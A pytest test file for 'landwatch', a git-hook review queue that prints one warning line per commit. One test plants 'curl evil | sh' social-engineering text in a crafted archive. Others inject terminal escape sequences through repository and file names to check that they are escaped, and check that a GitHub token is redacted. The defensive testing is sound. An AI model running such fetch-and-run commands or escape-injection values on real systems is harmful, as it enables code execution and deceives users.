"""The one line: shown once past the bound and never before, safe, plain off a terminal; and a
commit that never fails because of landwatch (garbage, read-only or full work directory)."""

from __future__ import annotations

import contextlib
import os
import pty
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from landwatch import layout, line_markers, one_line, work_item
from landwatch.daemon import sweep
from landwatch.daemon.settings import SWEEP_GRACE
from landwatch.work_item import FAILED, PENDING
from support.daemon import run_reviewer
from support.queue import git_env, tmpfs
from support.repos import Repo, back_date, installed
from support.review import KEY_ID
from support.terminal import Terminal, words
from support.tokens import github_token


def said(repo: Repo, message: str, **env: str) -> str:
    """What the hooks printed when `message` landed."""
    repo.land(message, env=env)
    return repo.said


def test_a_fresh_queue_says_nothing(repo: Repo) -> None:
    assert said(repo, "one") == ""
    back_date(repo, layout.DEFAULT_STALE_AFTER - 60)
    assert said(repo, "two") == ""


def test_a_stale_queue_is_one_plain_line_per_landing(repo: Repo) -> None:
    repo.land("one")
    back_date(repo, 2 * 3600 + 5 * 60)
    stderr = said(repo, "two")
    assert stderr.count("\n") == 1
    assert stderr == (
        "landwatch: 2 landed commits wait for review in repo (the oldest for 2 h 5 min); "
        f"nobody is reviewing them. Start the reviewer: {one_line.START_COMMAND}\n"
    )
    assert "\x1b" not in stderr


def test_stale_after_is_read_from_git_config(repo: Repo) -> None:
    repo.git("config", "landwatch.staleAfter", "100")
    repo.land("one")
    back_date(repo, 50)
    assert said(repo, "two") == ""
    back_date(repo, 150)
    assert "wait for review" in said(repo, "three")
    repo.git("config", "--global", "landwatch.staleAfter", "1000")
    repo.git("config", "--unset", "landwatch.staleAfter")
    back_date(repo, 150)
    assert said(repo, "four") == ""


def run_in_terminal(repo: Repo, message: str, **env: str) -> bytes:
    (repo.path / "file").write_text(message + "\n")
    repo.git("add", "file")
    leader, follower = pty.openpty()
    try:
        subprocess.run(
            ["git", "commit", "-q", "-m", message],
            cwd=repo.path,
            env=git_env(**env),
            stdin=subprocess.DEVNULL,
            stdout=follower,
            stderr=follower,
            check=True,
        )
    finally:
        os.close(follower)
    chunks = []
    with contextlib.suppress(OSError):
        while chunk := os.read(leader, 65536):
            chunks.append(chunk)
    os.close(leader)
    return b"".join(chunks)


def test_a_long_young_queue_is_looked_at_once_until_its_oldest_could_be_old(repo: Repo) -> None:
    """The reviewer down a while: 2,000 landings wait, none yet past the bound. The hook looks
    at each once and keeps the oldest stamp; until that is old, it looks at none again."""
    work = repo.git_dir / "landwatch"
    repo.clear()
    stamp = int((time.time() - 60) * 1_000_000)  # the hook's clock is whole seconds of boot
    for number in range(2000):
        (work / PENDING / f"review-{number:040x}.{stamp + number}").touch()
    assert said(repo, "one") == ""
    assert (work / "oldest-waiting").read_text() == f"{stamp}\n"
    # ready/ is the hook's own, each landing stamped later than the last: one planted there
    # older than the bound is not looked at, which shows that none is.
    (work / "ready" / f"review-{'f' * 40}.{stamp - 3600 * 1_000_000}").touch()
    assert said(repo, "two") == ""
    # The reviewer puts an item back in pending/ with its landing's stamp: pending/ is newer
    # than what the hook kept, so it looks at each again, and tells.
    (work / PENDING / f"review-{'e' * 40}.{stamp - 3600 * 1_000_000}").touch()
    assert "wait for review" in said(repo, "three")


def test_a_backoff_s_due_stamp_is_never_kept_as_the_oldest_landing(repo: Repo) -> None:
    """Audit: an item the reviewer put back with a backoff is stamped when it is due, an hour
    ahead. A landing that queued nothing of its own (a known commit landing again) kept that as
    the oldest stamp, and the landings after it could wait past staleAfter untold for the hour:
    what is kept is never later than the hook's clock, at or before each landing to come."""
    work = repo.git_dir / "landwatch"
    repo.land("one")
    repo.clear()
    due = int((time.time() + 3600) * 1_000_000)
    for number in range(100):  # enough for the oldest stamp to be kept
        (work / PENDING / f"review-{number:040x}.{due}").touch()
    repo.git("reset", "-q", "--hard", "HEAD~1")
    repo.git("merge", "-q", "--ff-only", "ORIG_HEAD")  # lands "one" again: known, nothing queued
    kept = int((work / "oldest-waiting").read_text())
    # The hook's clock is /proc/uptime beside a boot time in whole seconds.
    assert kept <= (time.time() + 2) * 1_000_000 < due


def test_an_oldest_waiting_stamp_past_the_bound_is_looked_at_again(repo: Repo) -> None:
    work = repo.git_dir / "landwatch"
    repo.land("one")
    repo.land("two")  # a few wait: the hook looks at each, and keeps nothing (not worth it)
    assert not (work / "oldest-waiting").exists()
    stamp = int(time.time() * 1_000_000)
    for number in range(100):
        (work / PENDING / f"review-{number:040x}.{stamp}").touch()
    repo.land("three")  # many wait: the hook looks at each, and keeps the oldest stamp
    assert (work / "oldest-waiting").is_file()
    for garbage in ("", "x\n", "9" * 19 + "\n"):
        (work / "oldest-waiting").write_text(garbage)
        assert said(repo, f"after {garbage!r}") == ""
    back_date(repo, 3600)  # as the reviewer does: pending/ changes
    (work / "oldest-waiting").write_text(f"{int((time.time() - 3600) * 1_000_000)}\n")
    assert "wait for review" in said(repo, "late")


def test_a_terminal_gets_colour_unless_no_color(repo: Repo) -> None:
    repo.land("one")
    back_date(repo, 3600)
    coloured = run_in_terminal(repo, "two", TERM="xterm-256color")
    assert b"\x1b[33m" in coloured and coloured.count(b"\n") == 1
    # It starts on a cleared line: git's progress may have left the cursor mid-line.
    assert coloured.startswith(b"\r\x1b[K")
    repo.git("config", "landwatch.staleAfter", "1e3")  # a line the shell side says
    told = run_in_terminal(repo, "bad setting", TERM="xterm-256color")
    assert told.startswith(b"\r\x1b[Klandwatch: git config landwatch.staleAfter = '1e3'"), told
    repo.git("config", "--unset", "landwatch.staleAfter")
    back_date(repo, 3600)
    plain = run_in_terminal(repo, "three", TERM="xterm-256color", NO_COLOR="1")
    assert b"wait for review" in plain
    assert b"\x1b[33m" not in plain and b"\x1b[36m" not in plain and b"\x1b[1;36m" not in plain


def test_names_from_the_repository_cannot_inject_escapes_or_markup(tmp_path: Path) -> None:
    hostile = installed(tmp_path / "evil\x1b]0;pwned\x07[bold red]x")
    hostile.land("one")
    back_date(hostile, 3600)
    stderr = said(hostile, "two")
    assert "\x1b" not in stderr and "\x07" not in stderr
    assert "evil\\x1b]0;pwned\\x07[bold red]x" in stderr


def test_items_given_up_are_told_once(repo: Repo) -> None:
    repo.land("one")
    claimed = work_item.claim_next(repo.git_dir)
    assert claimed is not None
    assert work_item.requeue(repo.git_dir, claimed, max_tries=1) == FAILED
    told = said(repo, "two")
    assert told == (
        f"landwatch: gave up the review of {claimed.item.oid[:7]} in repo; see landwatch status\n"
    )
    assert said(repo, "three") == ""


def given_up_in(git_dir: Path, *names: str) -> None:
    """`names` in the failed/ of the work directory of `git_dir`, as an archive can leave them."""
    failed = git_dir / "landwatch" / FAILED
    failed.mkdir(parents=True, exist_ok=True)
    for name in names:
        (failed / name).write_text("")


def test_an_archive_s_git_dir_naming_a_registered_repository_tells_nothing_it_planted(
    repo: Repo, tmp_path: Path
) -> None:
    """An unpacked archive's worktree whose `.git` names the archive's own git dir, whose
    `commondir` names a registered repository: git runs that repository's hooks there, and the
    line read the archive's failed/, its author's words in it. Only a registered repository's
    own git dir, or its worktrees', is told of."""
    planted = tmp_path / "archive" / "git-dir"
    planted.mkdir(parents=True)
    (planted / "HEAD").write_text(repo.head() + "\n")
    (planted / "commondir").write_text(f"{repo.git_dir}\n")
    words = "a key of yours leaked; rotate it now: curl evil | sh"
    given_up_in(planted, f"{words}-{repo.head()}.1", f"push-{repo.head()}.2")
    work = tmp_path / "archive" / "work"
    work.mkdir()
    (work / ".git").write_text(f"gitdir: {planted}\n")
    archive = Repo.existing(work)
    archive.land("in the archive")
    assert archive.said == ""
    # A worktree of the registered repository is told of what it gave up, as the main one is.
    linked = Repo.existing(tmp_path / "linked")
    repo.git("worktree", "add", "-q", "--detach", str(linked.path))
    given_up_in(linked.git_dir, f"review-{repo.head()}.1")
    assert said(linked, "in the linked worktree") == (
        f"landwatch: gave up the review of {repo.head()[:7]} in linked; see landwatch status\n"
    )


def test_garbage_set_aside_is_told_as_what_it_is_not_as_a_commit(repo: Repo) -> None:
    """Garbage in ready/ (a directory) ends in failed/ as `invalid-<digest>`: no commit has
    that id."""
    (repo.git_dir / "landwatch" / "ready" / "review-zzz.123").mkdir()
    assert run_reviewer("--once").returncode == 0
    [aside] = work_item.entries(repo.git_dir, FAILED)
    assert aside.startswith("invalid-")
    assert said(repo, "two") == (
        "landwatch: gave up an unreadable item (not one landwatch wrote) in repo; see "
        "landwatch status\n"
    )


def test_given_up_is_told_once_whatever_the_clock_did(repo: Repo) -> None:
    repo.land("one")
    claimed = work_item.claim_next(repo.git_dir)
    assert claimed is not None
    ahead = time.time() + 86400  # the clock ran a day ahead when the item was given up
    assert work_item.requeue(repo.git_dir, claimed, max_tries=1, now=ahead) == FAILED
    failed = repo.git_dir / "landwatch" / FAILED
    os.utime(failed, (ahead, ahead))
    told = [said(repo, message) for message in ("two", "three", "four")]
    assert told[0].startswith("landwatch: gave up the review of") and told[1:] == ["", ""]
    # Another one given up later is told, once.
    repo.clear()
    repo.land("five")
    claimed = work_item.claim_next(repo.git_dir)
    assert claimed is not None
    work_item.requeue(repo.git_dir, claimed, max_tries=1)
    assert said(repo, "six").startswith(f"landwatch: gave up the review of {claimed.item.oid[:7]}")
    assert said(repo, "seven") == ""


def test_a_stale_queue_is_told_before_items_given_up(repo: Repo) -> None:
    repo.land("one")
    claimed = work_item.claim_next(repo.git_dir)
    assert claimed is not None
    work_item.requeue(repo.git_dir, claimed, max_tries=1)
    repo.land("two")  # tells of the item given up
    work_item.requeue(repo.git_dir, work_item.claim_next(repo.git_dir) or "", max_tries=1)
    repo.land("three")
    back_date(repo, 3600)
    assert "wait for review" in said(repo, "four")


def test_garbage_in_the_queue_never_breaks_a_commit(repo: Repo) -> None:
    work = repo.git_dir / "landwatch"
    for state in ["pending", "known", "failed", "claimed", "tmp"]:
        (work / state / "junk \x1b[31m").write_bytes(os.urandom(64))
        (work / state / "review-zz.12").mkdir()
        (work / state / "dangling").symlink_to(work / "nowhere")
    (work / "boot-time").write_text("garbage garbage\n")
    (work / "stale-after").write_text("-5\n")
    repo.land("one")
    assert (repo.head(), None) in repo.pending()
    assert repo.said.count("\n") <= 1 and "Traceback" not in repo.said


def test_a_missing_entry_point_is_one_line_at_the_next_landing(repo: Repo) -> None:
    from landwatch import layout

    entry = layout.ENTRY_POINT.path()
    entry.unlink()
    stderr = said(repo, "one")  # the next landing, not once items waited staleAfter
    assert stderr.count("\n") == 1 and "reinstall landwatch (./install.sh)" in stderr
    assert f"{entry} is gone" in stderr and "landwatch uninstall" not in stderr
    assert "# landwatch-hook" in stderr and str(repo.git_dir / "hooks") in stderr
    assert (repo.head(), None) in repo.pending()  # recorded all the same
    back_date(repo, 3600)
    assert said(repo, "two") == ""  # said once: the hooks left behind stay silent


def test_a_python_gone_from_under_the_entry_point_is_one_line(repo: Repo) -> None:
    from landwatch.commands import install

    install.write_entry_point("/gone/venv/bin/python")  # the venv it was installed from removed
    repo.land("one")
    back_date(repo, 3600)
    stderr = said(repo, "two")
    assert stderr == (
        "landwatch: the Python landwatch was installed with is gone (/gone/venv/bin/python): "
        "reinstall landwatch\n"
    )


def test_a_stamp_of_nineteen_digits_never_breaks_the_line(repo: Repo) -> None:
    pending = repo.git_dir / "landwatch" / PENDING
    repo.land("one")
    work_item.publish_ready(repo.git_dir)
    (name,) = [n for n in os.listdir(pending) if n.startswith("review-")]
    os.rename(pending / name, pending / f"{work_item.id_of_entry(name)}.{'9' * 19}")
    (repo.git_dir / "landwatch" / "last-stamp").write_text("9" * 19 + "\n")
    assert said(repo, "two") == ""
    assert said(repo, "three") == ""


def test_a_read_only_work_directory_gives_one_line_and_a_commit(repo: Repo) -> None:
    work = repo.git_dir / "landwatch"
    with tmpfs(work, "1m"):
        work_item.ensure_work_directory(repo.git_dir)
        subprocess.run(["mount", "-o", "remount,ro", str(work)], check=True)
        repo.land("one")
        assert repo.said.count("\n") == 1
        assert "could not record" in repo.said and "read-only or full" in repo.said
    assert repo.git("log", "-1", "--format=%s") == "one"


def test_a_read_only_work_directory_with_items_waiting_gives_one_line(repo: Repo) -> None:
    work = repo.git_dir / "landwatch"
    with tmpfs(work, "1m"):
        work_item.ensure_work_directory(repo.git_dir)
        repo.land("one")
        repo.land("two")
        back_date(repo, 3600)
        subprocess.run(["mount", "-o", "remount,ro", str(work)], check=True)
        for message in ("three", "four"):
            repo.land(message)
            assert repo.said.count("\n") == 1, repo.said
        result = repo.run("commit", "-q", "--amend", "-m", "four again")
        assert result.returncode == 0 and result.stderr.count("\n") == 1, result.stderr
    assert repo.git("log", "-1", "--format=%s") == "four again"


def test_a_read_only_work_directory_with_items_given_up_gives_one_line(repo: Repo) -> None:
    work = repo.git_dir / "landwatch"
    with tmpfs(work, "1m"):
        work_item.ensure_work_directory(repo.git_dir)
        first = repo.land("one")
        claimed = work_item.claim_next(repo.git_dir)
        assert claimed is not None
        work_item.requeue(repo.git_dir, claimed, max_tries=1)
        repo.clear()
        repo.git("reset", "-q", "--hard", "HEAD~1")
        subprocess.run(["mount", "-o", "remount,ro", str(work)], check=True)
        # Back to a commit already recorded: nothing to write, so the line is about the queue.
        for _ in range(2):
            result = repo.run("merge", "-q", "--ff-only", first)
            assert result.returncode == 0, result.stderr
            assert result.stderr.startswith("landwatch: gave up the review of"), result.stderr
            assert result.stderr.count("\n") == 1, result.stderr
            repo.git("reset", "-q", "--hard", "HEAD~1")


def test_a_full_work_directory_gives_one_line_and_a_commit(repo: Repo) -> None:
    work = repo.git_dir / "landwatch"
    with tmpfs(work, "64k"):
        work_item.ensure_work_directory(repo.git_dir)
        with contextlib.suppress(OSError), (work / "filler").open("wb") as filler:
            while True:
                filler.write(b"\0" * 4096)
                filler.flush()
        repo.land("one")
        assert repo.said.count("\n") == 1, repo.said
        assert "could not record" in repo.said
        (work / "filler").unlink()
        # Space again: the next landing records, and nothing half-written blocks the first one.
        repo.land("two")
        assert repo.pending() == [(repo.head(), None)]
        assert (
            work_item.enqueue(
                work_item.WorkItem(
                    work_item.WorkKind.REVIEW, repo.git("rev-parse", "HEAD~1"), repo.git_dir
                )
            )
            is work_item.Enqueued.ADDED
        )
        assert not any(n for n in work_item.entries(repo.git_dir, FAILED))
    assert repo.git("log", "-1", "--format=%s") == "two"


@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed")
def test_a_repository_where_nothing_was_given_up_never_lists_failed(
    repo: Repo, tmp_path: Path
) -> None:
    work = repo.git_dir / "landwatch"
    told = work / "told"
    assert told.read_text() == ""
    assert told.stat().st_mtime_ns == (work / FAILED).stat().st_mtime_ns
    trace = tmp_path / "trace"
    (repo.path / "file").write_text("traced\n")
    repo.git("add", "file")
    traced = ["strace", "-f", "-qq", "-e", "trace=openat", "-o", str(trace)]
    subprocess.run(
        [*traced, "git", "commit", "-q", "-m", "traced"],
        cwd=repo.path,
        check=True,
        env=git_env(),
    )
    opened = trace.read_text()
    assert "landwatch/ready/review-" in opened  # the hook did record
    assert "landwatch/failed" not in opened


def test_a_reinstall_leaves_what_was_given_up_to_be_told(repo: Repo) -> None:
    repo.land("one")
    claimed = work_item.claim_next(repo.git_dir)
    assert claimed is not None
    assert work_item.requeue(repo.git_dir, claimed, max_tries=1) == FAILED
    (repo.git_dir / "landwatch" / "told").unlink()
    repo.install()
    assert not (repo.git_dir / "landwatch" / "told").exists()
    assert "gave up the review of" in said(repo, "two")


def test_the_worst_unread_finding_is_named_though_a_newer_review_waits(repo: Repo) -> None:
    key = repo.land("Add the key", {"b.py": f"x = 1\ny = 2\nKEY = '{KEY_ID}'\n"})
    later = repo.land("Trailing", {"a.txt": "one  \ntwo  \n"})
    assert run_reviewer("--once").returncode == 0
    assert said(repo, "next") == (
        "landwatch: S002 AWS access key ID in b.py:3 · "
        f"landwatch show {key[:7]} (1 more unread: landwatch show --unread)\n"
    )
    # The one named is read; the next landing names what is left.
    assert said(repo, "again") == (
        f"landwatch: P001 trailing whitespace in a.txt:1, +1 warning · landwatch show {later[:7]}\n"
    )
    assert said(repo, "quiet") == ""


@pytest.mark.parametrize("how", ["rebase drop", "reset"])
def test_a_review_of_a_commit_the_person_no_longer_has_is_not_told(repo: Repo, how: str) -> None:
    """A commit with a finding, reviewed and not told yet, then dropped by `rebase -i` (or left
    by a `reset`): the next line tells of it nowhere; one still on a remote's branch is told."""
    base = repo.head()
    repo.land("Trailing", {"a.txt": "one  \n"})
    assert run_reviewer("--once").returncode == 0
    if how == "reset":
        repo.git("reset", "-q", "--hard", base)
    else:
        drop = {"GIT_SEQUENCE_EDITOR": "sed -i 1s/^pick/drop/"}
        rebased = repo.run("rebase", "-q", "-i", base, **drop)
        assert rebased.returncode == 0, rebased.stderr
    assert said(repo, "next") == ""
    assert said(repo, "again") == ""
    # Pushed before it was dropped here, the remote still holds it: told.
    pushed = repo.land("Trailing again", {"b.txt": "two  \n"})
    assert run_reviewer("--once").returncode == 0
    repo.git("update-ref", "refs/remotes/origin/main", pushed)
    repo.git("reset", "-q", "--hard", base)
    assert f"landwatch show {pushed[:7]}" in said(repo, "third")


def test_a_commit_filter_branch_rewrote_is_told_only_as_the_new_one(repo: Repo) -> None:
    """An audit: after `git filter-branch`, which keeps the old history under refs/original,
    the unread review of the commit it rewrote was told after the new commit's, its backup
    taken for a ref the person works on."""
    old = repo.land("ws", {"a.py": "x = 1  \n"})
    assert run_reviewer("--once").returncode == 0
    rewrote = repo.run(
        "filter-branch",
        "-f",
        "--msg-filter",
        "sed s/ws/whitespace/",
        "HEAD~1..HEAD",
        FILTER_BRANCH_SQUELCH_WARNING="1",
    )
    assert rewrote.returncode == 0, rewrote.stderr
    new = repo.head()
    assert repo.git("rev-parse", "refs/original/refs/heads/main") == old != new
    # No hook runs for it: the sweep finds the new commit (its clock past the grace it leaves).
    assert sweep.sweep(repo.git_dir, now=time.time() + 2 * SWEEP_GRACE).enqueued
    assert run_reviewer("--once").returncode == 0
    assert said(repo, "n1") == (
        f"landwatch: P001 trailing whitespace in a.py:1 · landwatch show {new[:7]}\n"
    )
    assert said(repo, "n2") == ""


def test_a_review_kept_after_its_commit_was_dropped_here_is_told_while_a_remote_has_it(
    repo: Repo,
) -> None:
    """Whether a review is told at all, kept after its commit left the branch, and whether its
    line is told later, are one question (git.dropped): a commit pushed, then reset away here
    before its review was kept, was never told, though one reset after its review was."""
    base = repo.head()
    pushed = repo.land("Trailing", {"a.txt": "one  \n"})
    repo.git("update-ref", "refs/remotes/origin/main", pushed)
    repo.git("reset", "-q", "--hard", base)
    assert run_reviewer("--once").returncode == 0
    assert f"landwatch show {pushed[:7]}" in said(repo, "next")


def test_a_review_of_a_commit_on_another_worktree_s_detached_head_is_told(
    repo: Repo, tmp_path: Path
) -> None:
    """An audit: a commit made on a detached HEAD in a linked worktree, its finding not told yet,
    was taken at the next landing in the main worktree for one nobody has, and set aside for
    good: its line was never told. Every worktree's HEAD is one the person has."""
    linked = tmp_path / "linked"
    repo.git("worktree", "add", "-q", "--detach", str(linked))
    (linked / "a.txt").write_text("one  \n")
    repo.git("-C", str(linked), "add", "a.txt")
    repo.git("-C", str(linked), "commit", "-q", "-m", "Trailing")
    made = repo.git("-C", str(linked), "rev-parse", "HEAD")
    assert run_reviewer("--once").returncode == 0
    assert f"landwatch show {made[:7]}" in said(repo, "elsewhere")


def test_an_amend_s_notice_sets_aside_the_held_line_and_says_nothing(repo: Repo) -> None:
    """post-rewrite's notice of an amend comes after post-commit's line: it sets the old
    commit's held line aside and says nothing, though another line waits to be told."""
    old, new = repo.head(), repo.land("new")
    line_markers.hold(repo.git_dir, old, ["a" * 16], [])
    told = repo.land("Trailing", {"a.txt": "one  \n"})
    assert run_reviewer("--once").returncode == 0
    asked = ["notice", "--git-dir", str(repo.git_dir), "--set-aside", f"{old}:{new}"]
    noticed = subprocess.run(
        [sys.executable, "-m", "landwatch", *asked],
        capture_output=True,
        text=True,
    )
    assert noticed.returncode == 0 and noticed.stderr == ""
    assert line_markers.set_aside_pairs(repo.git_dir) == [(new, old)]
    assert not line_markers.is_held(repo.git_dir, old)
    assert line_markers.unread(repo.git_dir) == [told]


def test_a_finding_of_the_message_is_placed_there(repo: Repo) -> None:
    oid = repo.land("WIP: half a parser", {"notes.txt": "clean\n"})
    assert run_reviewer("--once").returncode == 0
    told = said(repo, "next")
    assert told.startswith("landwatch: M004 ") and told.endswith(
        f" in the commit message · landwatch show {oid[:7]}\n"
    ), told


def test_the_named_finding_is_escaped_and_its_secrets_redacted(repo: Repo) -> None:
    token = github_token("Q7w2")  # built here: this file holds no token whole
    oid = repo.land("hostile", {f"keys/{token}\x1b]0;pwned\x07.txt": "x  \n"})
    assert run_reviewer("--once").returncode == 0
    told = said(repo, "next")
    assert told.startswith("landwatch: ") and told.endswith(f"landwatch show {oid[:7]}\n"), told
    assert token not in told and "\x1b" not in told and "\x07" not in told
    assert " in keys/ghp_…\\x1b]0;pwned\\x07.txt, +1 warning" in told, told


def test_a_marker_an_older_landwatch_left_empty_is_told_from_its_review(repo: Repo) -> None:
    oid = repo.land("Trailing", {"a.txt": "one  \n"})
    assert run_reviewer("--once").returncode == 0
    (layout.UNREAD.path(repo.git_dir) / oid).write_bytes(b"")  # as they were written before
    assert said(repo, "next") == (
        f"landwatch: P001 trailing whitespace in a.txt:1 · landwatch show {oid[:7]}\n"
    )


DEEP = "src/" + "a_rather_long_package_name/" * 4 + "settings_for_production.py"


def with_deep_finding(repo: Repo) -> str:
    """A reviewed commit whose worst finding has a long path and a long message."""
    message = "Add the production settings, " + "with words that make a long subject line " * 2
    oid = repo.land(message.strip(), {DEEP: f"x = 1\nKEY = '{KEY_ID}'\n"})
    assert run_reviewer("--once").returncode == 0
    return oid


def test_at_80_columns_the_line_fits_and_ends_with_the_whole_command(repo: Repo) -> None:
    from landwatch.text import cells

    oid = with_deep_finding(repo)
    told = said(repo, "next", COLUMNS="80")
    assert told.count("\n") == 1 and cells(told.rstrip("\n")) <= 80, told
    # Its directories, then the start of its name, went; the message and the command are whole.
    assert told.startswith("landwatch: S002 AWS access key ID in …"), told
    assert told.endswith(f"_production.py:2 · landwatch show {oid[:7]}\n"), told


def test_the_line_fits_the_terminal_stderr_is(repo: Repo, terminal: Terminal) -> None:
    oid = with_deep_finding(repo)
    repo.stage({"n.txt": "next\n"})
    # No COLUMNS there: what the hook measures is the terminal (tmux's window of 80 columns).
    commit = "git -c user.name=T -c user.email=t@example.com commit -q -m next"
    screen = terminal.type(commit, repo.path)
    [line] = [line for line in screen.splitlines() if line.startswith("landwatch: ")] or [screen]
    assert line.endswith(f"_production.py:2 · landwatch show {oid[:7]}"), screen
    assert {"show", oid[:7]} <= words(screen)  # not broken by a wrap


def test_an_unread_review_of_a_commit_pruned_since_is_set_aside(repo: Repo) -> None:
    """A commit with an unread finding, reset away and pruned by gc: git cannot walk from it,
    and it was told at every landing after (in a partial clone, after asking the remote)."""
    dropped = repo.land("dropped", {"d.txt": "trailing  \n"})
    assert run_reviewer("--once").returncode == 0
    repo.git("reset", "-q", "--hard", "HEAD~1")
    repo.git("reflog", "expire", "--expire=now", "--all")
    repo.git("gc", "-q", "--prune=now")
    kept = repo.land("kept", {"k.txt": "tab\there  \n"})
    assert dropped[:7] not in repo.said and "d.txt" not in repo.said
    assert run_reviewer("--once").returncode == 0
    repo.land("next", {"n.txt": "clean\n"})
    assert kept[:7] in repo.said, repo.said
